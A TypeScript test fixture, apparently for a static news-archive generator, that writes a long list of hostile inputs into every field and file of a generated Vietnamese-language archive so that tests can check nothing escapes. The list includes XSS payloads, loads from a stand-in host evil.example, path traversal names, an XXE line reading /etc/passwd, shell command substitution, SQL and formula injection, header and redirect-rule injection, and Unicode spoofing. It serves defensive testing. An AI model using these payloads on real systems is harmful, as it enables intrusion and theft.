import { mkdirSync, writeFileSync } from 'node:fs'
import { dirname, join } from 'node:path'

/** What a text that runs would call, and whom it would ask: tests look for both. */
export const alarm = 'datelineAlarm'
export const enemy = 'evil.example'

/**
 * Texts that try to get out of the place where they are put. Those that could run call `datelineAlarm`, those that could send something
 * ask evil.example; elements and attributes are recognised because no template of ours writes them.
 */
export const payloads: readonly string[] = [
  // elements
  '<script>datelineAlarm(1)</script>',
  '"><script>datelineAlarm(2)</script>',
  "'><script>datelineAlarm(3)</script>",
  '</script><script>datelineAlarm(4)</script>',
  '</title><script>datelineAlarm(5)</script>',
  '--><script>datelineAlarm(6)</script><!--',
  ']]><script>datelineAlarm(7)</script><![CDATA[',
  '<scr<script>ipt>datelineAlarm(8)</scr</script>ipt>',
  '<ScRiPt/src=//evil.example/a.js></sCrIpT\t>',
  '<img src=x onerror=datelineAlarm(9)>',
  '<img src="https://evil.example/pixel.gif">',
  '<svg/onload=datelineAlarm(10)>',
  '<svg><animate onbegin=datelineAlarm(11) attributeName=x dur=1s>',
  '<math><mtext></mtext><mglyph><style><img src=x onerror=datelineAlarm(12)>',
  '<noscript><p title="</noscript><img src=x onerror=datelineAlarm(13)>">',
  '<iframe srcdoc="<script>parent.datelineAlarm(14)</script>"></iframe>',
  '<iframe src=https://evil.example></iframe>',
  '<object data=https://evil.example></object><embed src=https://evil.example>',
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<style>@import "https://evil.example/b.css";*{background:url(https://evil.example/c)}</style>',
  '<form action=https://evil.example><button autofocus onfocus=datelineAlarm(15)>x</button></form>',
  '<details open ontoggle=datelineAlarm(16)>x</details>',
  '<video><source onerror=datelineAlarm(17)></video>',
  '<input autofocus onfocus=datelineAlarm(18)>',
  '<marquee onstart=datelineAlarm(19)>',
  '<a href="javascript:datelineAlarm(20)" id=x>click</a>',
  '<template><script>datelineAlarm(21)</script></template>',
  '<x-evil data-evil=1>',
  '<!-- never closed',
  '<textarea>',
  '<plaintext>',
  '</article></main></body></html><h1>ours</h1>',
  '<p id="search" class="lead" style="position:fixed;inset:0">over all</p>',
  // attributes
  '" onmouseover="datelineAlarm(22)" autofocus onfocus="datelineAlarm(23)',
  "' onmouseover='datelineAlarm(24)' x='",
  '` onmouseover=`datelineAlarm(25)`',
  ' onmouseover=datelineAlarm(26) ',
  'x"/onerror="datelineAlarm(27)',
  // addresses
  'javascript:datelineAlarm(28)',
  ' \tjava\nscript:datelineAlarm(29)',
  'JaVaScRiPt&colon;datelineAlarm(30)',
  '&#106;avascript:datelineAlarm(31)',
  'javascript&#x3a;datelineAlarm(32)//https://ok.example',
  'data:text/html,<script>parent.datelineAlarm(33)</script>',
  'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImRhdGVsaW5lQWxhcm0oMzQpIi8+',
  'vbscript:datelineAlarm(35)',
  'blob:https://evil.example/x',
  '//evil.example/x',
  '\\\\evil.example\\x',
  'https:evil.example',
  'https://ok.example/"onmouseover="datelineAlarm(36)',
  'https://ok.example@evil.example/',
  // places in the output folder
  '../../../../tmp/dateline-escaped',
  '..\\..\\dateline-escaped',
  '/etc/dateline-escaped',
  '%2e%2e%2f%2e%2e%2fdateline-escaped',
  '․․/․․/dateline-escaped',
  '．．／dateline-escaped',
  'C:\\dateline-escaped',
  '\\\\?\\pipe\\dateline-escaped',
  'CON',
  'aux.html',
  'nul.',
  'com1',
  '.htaccess',
  '.dateline/x',
  'index.html',
  '404',
  'page-1',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  // Markdown
  '[x](javascript:datelineAlarm(37))',
  '[x](<java&#x09;script:datelineAlarm(38)>)',
  '![x](https://evil.example/pixel.gif)',
  '![x](x"onerror="datelineAlarm(39))',
  '[x]: javascript:datelineAlarm(40)',
  '<javascript:datelineAlarm(41)>',
  '```"><script>datelineAlarm(42)</script>',
  '[x](JAVA&Tab;SCRIPT&colon;datelineAlarm(54))',
  '[x](&#0000106avascript:datelineAlarm(55))',
  '[x](\u0001javascript:datelineAlarm(56))',
  '[x](view-source:javascript:datelineAlarm(57))',
  '[x](data:text/html;base64,PHNjcmlwdD5kYXRlbGluZUFsYXJtKDU4KTwvc2NyaXB0Pg==)',
  '[x](feed:javascript:datelineAlarm(59))',
  '[x](https://ok.example \'" onmouseover="datelineAlarm(62)\')',
  '[x](https://ok.example "&quot; autofocus onfocus=&quot;datelineAlarm(63)")',
  '[x][r]\n\n[r]: <vbscript:datelineAlarm(64)> "t"',
  '[r]: //evil.example/x (")>\n\n![r] and [r][]',
  '![x](//evil.example/pixel.gif "t")',
  '![x](data:image/svg+xml,%3Csvg%20onload=datelineAlarm(65)%3E)',
  '![[x](https://evil.example/pixel.gif)](javascript:datelineAlarm(66))',
  '<https://ok.example/"onmouseover="datelineAlarm(67)">',
  'www.ok.example/"onmouseover="datelineAlarm(68)',
  '<evil@ok.example?subject="onmouseover="datelineAlarm(69)>',
  'x[^location]\n\n[^location]: <img src=x onerror=datelineAlarm(72)>',
  'x[^"><img/src=x/onerror=datelineAlarm(73)>]\n\n[^"><img/src=x/onerror=datelineAlarm(73)>]: y',
  'x[^__proto__] [^constructor]\n\n[^__proto__]: y\n[^constructor]: z',
  '## cookie {#location onclick=datelineAlarm(74)}',
  '| a | b |\n|:-|-:|\n| <img src=x onerror=datelineAlarm(75)> | [x](javascript:datelineAlarm(76)) |',
  '- [x] <input name=attributes onfocus=datelineAlarm(77) autofocus>',
  '~~~"onmouseover=datelineAlarm(78)\nx\n~~~',
  '<form id=location name=body><img name=cookie><input name=attributes></form>',
  '<svg><a xlink:href="javascript:datelineAlarm(79)"><text y=9>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=datelineAlarm(80)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc=x></iframe></foreignObject><set attributeName=href to=javascript:datelineAlarm(81)>',
  '<math href="javascript:datelineAlarm(82)"><maction actiontype="statusline#https://evil.example">x</maction></math>',
  '<math><mi//xlink:href="data:x,<script>datelineAlarm(83)</script>">',
  '<a href="https://ok.example" ping="https://evil.example" target=_top rel=opener>x</a>',
  '<img srcset="https://evil.example/a 1x" loading=eager><picture><source srcset=https://evil.example/b>',
  '<video poster=https://evil.example/p><audio src=https://evil.example/a autoplay>',
  '<table background="https://evil.example/t"><td style="background:url(//evil.example/u)">x',
  '<?xml-stylesheet href="javascript:datelineAlarm(84)"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<![CDATA[<script>datelineAlarm(85)</script>]]>',
  '<div popover id=x></div><button popovertarget=x onbeforetoggle=datelineAlarm(86)>x</button>',
  '<link rel=dns-prefetch href=//evil.example><link rel=prerender href=https://evil.example/r>',
  // other languages than HTML
  '{{7*7}} $\u007b7*7} <%= 7*7 %> <?php system(1) ?> #{7*7} {% raw %}',
  "'; DROP TABLE articles; --",
  '$(touch /tmp/dateline-escaped) `touch /tmp/dateline-escaped`',
  '=HYPERLINK("https://evil.example")',
  '@SUM(1+1)*cmd|calc',
  '\r\nX-Evil: 1\r\n\r\n<script>datelineAlarm(43)</script>',
  '/x%0aHeader%20set%20X-Evil%201',
  '/x%0d%0aX-Evil:%201',
  '/x\nhttps://evil.example/ 301!',
  '/x https://evil.example/ 301!',
  '/* https://evil.example/:splat 200!',
  '/:x/* https://evil.example/:x',
  '/x;} location / { return 301 https://evil.example; } #',
  '/x" "https://evil.example',
  '/x"; default "https://evil.example',
  '~^/.* https://evil.example',
  '/x\\" https://evil.example\\',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a web server would fill it in.
  '/$request_uri$1%{HTTP_HOST}${PATH}',
  '/(.*)|.*$ https://evil.example',
  '/x?y="&z=$args;}\\',
  'https://ok.example/\nX-Evil: 1',
  'https://ok.example/;} return 301 https://evil.example',
  '"}],"@type":"Evil","x":[{"y":"',
  '\\"},\\"evil\\":{\\"',
  '\u2028\u2029datelineAlarm(44)',
  '*/datelineAlarm(45)/*',
  '//\\u003cscript\\u003edatelineAlarm(46)',
  ']]>',
  '&lt;script&gt;datelineAlarm(47)&lt;/script&gt;',
  '&#60;script&#62;datelineAlarm(48)&#60;/script&#62;',
  '&amp;lt;img src=x onerror=datelineAlarm(49)&amp;gt;',
  '&nosuchentity; &#0; &#xd800; &#x110000; &',
  '%00%3Cscript%3EdatelineAlarm(50)%3C/script%3E',
  '＜script＞datelineAlarm(51)＜/script＞',
  '¼script¾datelineAlarm(52)¼/script¾',
  '+ADw-script+AD4-datelineAlarm(53)+ADw-/script+AD4-',
  // letters that are none
  'nul\u0000 bell\u0007',
  'escape\u001b[31m',
  'delete\u007f next\u0085 line',
  'vertical\u000btab form\u000cfeed',
  'noncharacter \ufffe',
  'lone \ud800 surrogates \udfff',
  'right to left \u202egnp.exe',
  'embedded \u202a\u202b\u202d never closed',
  'isolated \u2066\u2067\u2068 never closed',
  'zero\u200bwidth\u200c\u200d\u2060\ufeff letters\u00ad',
  'tags \u{e0041}\u{e0042} and selectors \ufe0f\u{e0100}',
  `z${'\u0300'.repeat(300)}algo`,
  '\ufdfa'.repeat(50),
  '👩‍👩‍👧‍👦'.repeat(40),
]

/** Fields of frontmatter and of records; `body` and `text` come apart. */
const fields = [
  'title',
  'kicker',
  'lead',
  'updated',
  'authors',
  'agency',
  'section',
  'tags',
  'slug',
  'url',
  'lang',
  'aliases',
  'corrections',
  'photographer',
  'id',
] as const

/** What Markdown may make of a text: in every article, so that a harmless archive has every element that a hostile one may have. */
const markdown = `Một **đoạn** có *nhấn*, \`mã\` và [liên kết](https://ok.example/?a=1&b=2), <https://ok.example/>, viết cho
mọi người.

Một dòng thơ\\
và một dòng nữa

## Mục

### Mục nhỏ

- một
- hai

3. ba
4. bốn

> Lời trích.

    mã

---

![Một ảnh](anh.jpg)

| Mặt hàng | Giá |
|:---------|----:|
| Cà phê   |  ~~40~~ 45 |

- [x] xong

Có chú thích[^1].

[^1]: Chú thích, **đậm**.
`

/** How much was written: each place where a text was put is a case. */
export interface Written {
  readonly articles: number
  readonly cases: number
}

/**
 * Writes an archive whose every field, in every format, holds each of the texts; settings and authority files hold them too.
 * With harmless words for texts it is the same archive that a good newspaper might have.
 */
export function writeArchive(
  content: string,
  texts: readonly string[],
  settings: readonly string[],
): Written {
  let cases = 0
  let articles = 0
  const put = (path: string, text: string) => {
    mkdirSync(dirname(join(content, path)), { recursive: true })
    writeFileSync(join(content, path), text)
  }
  const records: string[] = []
  for (const [at, text] of texts.entries()) {
    const date = `${2001 + (at % 9)}-0${1 + (at % 7)}-1${at % 10}`
    const given = fieldsOf(text, date)
    const lines = Object.entries(given).map(([name, value]) => `${quoted(name)}: ${quoted(value)}`)
    put(`md/${at}.md`, `---\n${lines.join('\n')}\n---\n\n${text}\n\n${markdown}\n${text} và ${text}\n`)
    put(
      `heading/${at}.md`,
      `# ${text}\n\n${text}\n\n> ${text}\n\n- ${text}\n\n\`${text}\`\n\n[${text}](${text} "${text}")\n`,
    )
    records.push(quoted({ ...given, [text]: text, text: `${text}\n\nMột đoạn nữa.\n\n${text}` }))
    const [year, month, day] = date.split('-')
    put(
      `txt/${nameOf(text, at)}.txt`,
      `${text}\n\n${text}\n\nBài viết ${text}\n\n17:40, ${day}/${month}/${year}\n\nTác giả: ${text}\n\nBUÔN HỒ - ${text} Người dân thôn Tám dậy từ sớm.\n\n${text}\n\n${longParagraph}\n\nẢnh: ${text}\n\nTừ khóa: ${text}, ${text}\n`,
    )
    put(
      `standing/${at}.md`,
      `---\ntitle: Gỡ bài ${at}\ndate: ${date}\ntakedown: {reason: ${quoted(text)}, date: ${date}}\nrobots: ${quoted(text)}\n---\n\nĐã gỡ.\n`,
    )
    articles += 5
    cases += 2 * fields.length + 4 + 7 + 3 + 9 + 2
  }
  for (let at = 0; at < 52; at++) put(`ordinary/${at}.md`, ordinary(at))
  put('records.jsonl', `${records.join('\n')}\n`)
  const [title = '', description = '', publisher = '', rights = '', label = ''] = settings.map(quoted)
  put(
    'site.yaml',
    `title: ${title}\ndescription: ${description}\npublisher: ${publisher}\nrights: ${rights}\nlanguage: vi\ngfm: true\ntimeZone: Asia/Ho_Chi_Minh\nbaseUrl: https://archive.example/kho/\nextras: [json-feed, tag-feeds, author-feeds, section-feeds, text, dataset, llms]\nformerHosts: [ok.example]\n`,
  )
  put('tags.yaml', `- label: ${label}\n  aliases: [${title}]\n- label: ${rights}\n`)
  put('authors.yaml', `- label: ${label}\n  family: ${description}\n  given: ${publisher}\n`)
  return { articles, cases: cases + 9 }
}

const longParagraph = 'Chợ họp từ sớm, người mua kẻ bán đông như mọi phiên, hàng hết trước trưa. '.repeat(12)

/** Articles without anything in them, so that lists are long and every part of a page is there. */
function ordinary(at: number): string {
  const letter = String.fromCharCode(65 + (at % 26))
  const given = {
    title: `${letter}n ordinary story ${at}`,
    date: `2010-0${1 + (at % 3)}-1${at % 7}`,
    lang: at % 2 ? 'en' : 'ar',
    authors: [`${letter}nn Wexford`],
    tags: [`${letter}ll sorts`],
    section: 'News',
    kicker: 'Harvest',
    lead: at % 3 ? '' : 'Given apart.',
    url: `https://www.example.com/${at}.html`,
    updated: '2011-01-01',
    corrections: ['One was counted twice.'],
  }
  return `---\n${JSON.stringify(given)}\n---\n\nOne paragraph.\n\nAnother one.\n`
}

function fieldsOf(text: string, date: string): Record<string, unknown> {
  const values = Object.fromEntries(fields.map((field): [string, unknown] => [field, text]))
  return {
    ...values,
    date,
    authors: [text, `Tác giả ${text}`],
    tags: [text, `Về ${text}`],
    aliases: [text, `/cũ/${text}`],
    corrections: [{ date, text }, text],
  }
}

/** As JSON, which YAML reads too, with control characters as escapes: so they come past the reading of the file. */
function quoted(value: unknown): string {
  return JSON.stringify(value).replace(
    /[\x7f-\x9f\u2028-\u202e\ufffe\uffff]/g,
    (sign) => `\\u${sign.charCodeAt(0).toString(16).padStart(4, '0')}`,
  )
}

/** A file name as near to the text as a file system allows. */
function nameOf(text: string, at: number): string {
  const name = text.replace(/[/\0]/g, '_')
  return `${Buffer.from(name).subarray(0, 200).toString().replaceAll('\ufffd', '')}-${at}`.replace(
    /^\.+/,
    '_',
  )
}
